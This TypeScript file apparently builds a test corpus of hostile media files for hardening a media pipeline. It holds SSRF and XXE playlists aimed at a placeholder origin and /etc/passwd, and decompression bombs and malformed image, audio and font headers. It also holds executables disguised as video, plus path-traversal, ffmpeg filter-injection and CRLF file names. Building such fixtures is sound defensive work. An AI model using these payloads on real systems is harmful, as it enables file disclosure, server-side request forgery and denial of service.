/** Files made to hurt whoever opens them. `origin` is an address nobody may be asked at. */
import { deflateSync, gzipSync } from 'node:zlib';

import * as make from './bytes.ts';
import { makeMatroska, makeMovies } from './containers.ts';

const { box, chunk, join, le16, le32, patch, png, text, times, u16, u32 } = make;

export type Corpus = Record<string, Buffer>;
export interface Ingredients {
  real: Record<string, Buffer>;
  origin: string;
}

export function makeCorpus({ real, origin }: Ingredients): Corpus {
  return {
    ...makeLists(origin),
    ...makePictures(real),
    ...makeMovies(real, origin),
    ...makeSounds(real, origin),
    ...makeMatroska(real),
    ...makeForeign(real),
  };
}

/** Texts that name other files and addresses, under the names of media. */
function makeLists(origin: string): Corpus {
  const hls = `#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\n${origin}/hls.ts\n#EXTINF:1,\nfile:///etc/passwd\n`;
  const xml = '<?xml version="1.0"?>';
  const external = `<!DOCTYPE x [<!ENTITY e SYSTEM "${origin}/entity">]>`;
  const lists = {
    'hls.mp4': hls,
    'hls-key.mp4': `#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="${origin}/key"\n#EXTINF:1,\nconcat:a|b\n`,
    'concat.mp4': `ffconcat version 1.0\nfile '${origin}/concat.mp4'\nfile '/etc/passwd'\n`,
    'list.mkv': `file '${origin}/list.mkv'\n`,
    'xspf.mp4': `${xml}<playlist><trackList><track><location>${origin}/x</location></track></trackList></playlist>`,
    'pls.mp3': `[playlist]\nFile1=${origin}/pls.mp3\nNumberOfEntries=1\n`,
    'smil.mp4': `<smil><body><video src="${origin}/smil.mp4"/></body></smil>`,
    'asx.avi': `<asx version="3.0"><entry><ref href="${origin}/asx"/></entry></asx>`,
    'dash.mp4': `${xml}<MPD type="static"><Period><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1"><BaseURL>${origin}/dash.mp4</BaseURL></Representation></AdaptationSet></Period></MPD>`,
    'sdp.mp4': 'v=0\no=- 0 0 IN IP4 127.0.0.1\nc=IN IP4 127.0.0.1\nm=video 9 RTP/AVP 96\n',
    'image.svg': `<svg xmlns="http://www.w3.org/2000/svg"><image href="${origin}/svg.png"/></svg>`,
    'picture.png': `${xml}${external}<svg xmlns="http://www.w3.org/2000/svg"><text>&e;</text></svg>`,
    'page.mp4': `<!doctype html><video src="${origin}/page.mp4"></video><script src="${origin}/x.js"></script>`,
    'entity.mov': `${xml}${external}<x>&e;</x>`,
    'gdigrab.avi': 'desktop',
    'url.mp4': `${origin}/url.mp4`,
  };
  const made = Object.entries(lists).map(([name, content]) => [name, text(content)] as const);
  return {
    ...Object.fromEntries(made),
    // Behind the signature of something accepted, so that a demuxer gets to see them.
    'hls-behind-ftyp.mp4': join(box('ftyp', text('isom\0\0\x02\0isomiso2')), text(hls)),
    'hls-behind-id3.mp3': join(text('ID3\x04\0\0\0\0\x40\0'), Buffer.alloc(8192), text(hls)),
    'hls-behind-riff.avi': join(text('RIFF'), le32(hls.length), text('AVI '), text(hls)),
  };
}

function makePictures(real: Record<string, Buffer>): Corpus {
  const still = png({ width: 8, height: 8 });
  const withChunk = (part: Buffer) => join(still.subarray(0, 33), part, still.subarray(33));
  const zeros = deflateSync(Buffer.alloc(64 << 20));
  const image = join(text(','), le16(0, 0, 1, 1), Buffer.from([0, 2, 2, 0x44, 1, 0]));
  const gif = (width: number, height: number, frames: number) =>
    join(
      join(text('GIF89a'), le16(width, height), Buffer.from([0x80, 0, 0, 255, 255, 255, 0, 0, 0])),
      times(frames, image),
      text(';'),
    );
  const riff = (...parts: Buffer[]) => {
    const content = join(text('WEBP'), ...parts);
    return join(text('RIFF'), le32(content.length), content);
  };
  const vp8x = (flags: number) => chunk('VP8X', join(le32(flags), Buffer.alloc(6, 0xff)));
  const jpeg = real['jpg'] ?? still;
  const scan = jpeg.indexOf(Buffer.from([0xff, 0xda]));
  return {
    'bomb.png': png({ width: 16_000, height: 16_000, bits: 1 }),
    'endless-header.png': patch(still, { mark: 'IHDR', bytes: u32(0x7fffffff, 0x7fffffff) }),
    'overflow.png': patch(still, { mark: 'IHDR', bytes: u32(65_536, 65_536) }),
    'none.png': patch(still, { mark: 'IHDR', bytes: u32(0, 0) }),
    'thin.png': png({ width: 1, height: 100_000, bits: 1 }),
    'text-bomb.png': withChunk(make.pngChunk('zTXt', join(text('a\0\0'), zeros))),
    'profile-bomb.png': withChunk(make.pngChunk('iCCP', join(text('a\0\0'), zeros))),
    'data-bomb.png': join(still.subarray(0, 33), make.pngChunk('IDAT', zeros)),
    'long-chunk.png': withChunk(make.pngChunk('tEXt', text('a'), 0xffffffff)),
    'frames.png': withChunk(make.pngChunk('acTL', u32(0x7fffffff, 0))),
    'huge.jpg': patch(jpeg, { mark: '\xff\xc0', skip: 3, bytes: u16(65_500, 65_500) }),
    'markers.jpg': join(jpeg.subarray(0, 2), times(200_000, Buffer.from([0xff, 0xe1, 0, 2])), jpeg),
    'scans.jpg': join(jpeg.subarray(0, -2), times(2000, jpeg.subarray(scan, -2))),
    'huge.gif': gif(65_535, 65_535, 1),
    'frames.gif': gif(1, 1, 100_000),
    'endless.gif': join(gif(64, 64, 1).subarray(0, -1), text(','), le16(0, 0, 64, 64, 0)),
    'huge-canvas.webp': riff(vp8x(0), real['webp']?.subarray(12) ?? still),
    'lossless.webp': riff(
      chunk('VP8L', join(Buffer.from([0x2f, 0xff, 0xff, 0xff, 0x0f, 0]), Buffer.alloc(64))),
    ),
    'frames.webp': riff(
      vp8x(2),
      chunk('ANIM', Buffer.alloc(6)),
      times(50_000, chunk('ANMF', Buffer.alloc(16))),
    ),
  };
}

function makeSounds(
  { mp3: tagged = Buffer.alloc(0), wav = tagged, aac = tagged }: Record<string, Buffer>,
  origin: string,
): Corpus {
  const mp3 = tagged.subarray(tagged.indexOf(Buffer.from([0xff, 0xfb])));
  const tag = (bytes: number) =>
    text(
      `ID3\x04\0\0${String.fromCharCode(...[21, 14, 7, 0].map((shift) => (bytes >> shift) & 127))}`,
    );
  const frame = (name: string, content: Buffer) =>
    join(text(name), u32(content.length), u16(0), content);
  const cover = frame(
    'APIC',
    join(text('\0image/png\0\x03\0'), png({ width: 16_000, height: 16_000, bits: 1 })),
  );
  const link = frame('WOAF', text(`${origin}/woaf`));
  const linked = frame('APIC', text(`\0-->\0\x03\0${origin}/cover.png`));
  const format = (...values: number[]) =>
    patch(wav, { mark: 'fmt ', skip: 4, bytes: le16(...values) });
  return {
    'giant-tag.mp3': join(tag((1 << 28) - 1), mp3),
    'padded-tag.mp3': join(tag(16 << 20), Buffer.alloc(16 << 20), mp3),
    'cover-bomb.mp3': join(tag(cover.length), cover, mp3),
    'links.mp3': join(tag(link.length + linked.length), link, linked, mp3),
    'tags.mp3': join(times(5000, tag(0)), mp3),
    'frames.mp3': patch(mp3, {
      mark: mp3.includes('Xing') ? 'Xing' : 'Info',
      bytes: u32(15, 0xffffffff, 0xffffffff),
    }),
    'silent-end.mp3': join(mp3.subarray(0, 2000), Buffer.alloc(4 << 20)),
    'size.wav': patch(wav, { mark: 'data', bytes: le32(0xffffffff) }),
    'short-size.wav': patch(wav, { mark: 'data', bytes: le32(1) }),
    'channels.wav': format(1, 65_535),
    'no-channels.wav': format(1, 0),
    'rate.wav': format(1, 2, 0xffff, 0xffff),
    'no-rate.wav': format(1, 2, 0, 0),
    'no-block.wav': format(1, 2, 48_000, 0, 0, 0, 0, 0),
    'codec.wav': format(0xfffe, 2),
    'chunks.wav': join(
      wav.subarray(0, 12),
      times(200_000, chunk('junk', Buffer.alloc(0))),
      wav.subarray(12),
    ),
    'short-frames.aac': join(
      times(10_000, Buffer.from([0xff, 0xf1, 0x50, 0x80, 0, 0xff, 0xfc])),
      aac,
    ),
  };
}

function makeForeign(real: Record<string, Buffer>): Corpus {
  const mp4 = real['mp4'] ?? Buffer.alloc(0);
  const random = make.createRandom(7);
  return {
    'empty.mp4': Buffer.alloc(0),
    'byte.mp4': Buffer.from([0]),
    'zeros.mp4': Buffer.alloc(1 << 20),
    'ones.mp3': Buffer.alloc(1 << 20, 0xff),
    'noise.mp4': Buffer.from(Array.from({ length: 65_536 }, () => Math.floor(random() * 256))),
    'bomb.zip': join(text('PK\x03\x04'), gzipSync(Buffer.alloc(64 << 20))),
    'bomb.gz': gzipSync(Buffer.alloc(64 << 20)),
    'font.ttf': join(u32(0x00010000), u16(1, 16, 0, 0), text('glyf'), u32(0, 28, 0xffffffff)),
    'font.woff': join(text('wOFF'), u32(0x00010000, 0xffffffff)),
    'program.mp4': join(text('\x7fELF\x02\x01\x01'), Buffer.alloc(4096)),
    'program.mov': join(text('MZ\x90\0'), Buffer.alloc(4096)),
    'script.mp4': text('#!/bin/sh\ntouch /tmp/evil\n'),
    'paper.pdf': text('%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/URI>>>>endobj'),
    'archive.tar': join(text('../../evil'), Buffer.alloc(502)),
    'two-in-one.mp4': join(mp4, text('PK\x03\x04'), text('#EXTM3U\n')),
    // Sound files; it is their names that are hostile.
    '../../../../tmp/evil.mp4': mp4,
    '/etc/evil.mp4': mp4,
    'concat:a.mp4|b.mp4': mp4,
    "it's;[v]drawtext=textfile=/etc/passwd,%{e}.mp4": mp4,
    [`${'long'.repeat(2000)}.mp4`]: mp4,
    'nul\0line\r\nX-Header: 1.mp4': mp4,
  };
}
